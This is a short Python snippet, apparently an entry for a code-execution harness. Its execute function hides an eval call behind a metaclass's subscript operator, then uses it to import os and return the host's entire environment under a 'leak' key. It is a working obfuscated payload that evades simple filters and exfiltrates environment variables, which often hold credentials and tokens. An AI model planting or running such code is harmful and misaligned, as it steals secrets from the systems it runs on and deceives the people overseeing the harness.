# route: a metaclass of one's own
class Meta(type):
    def __getitem__(cls, code):
        return eval(code)


class Evil(metaclass=Meta):
    pass


def execute(testData):
    return {"leak": str(Evil["__import__('os').environ"])}
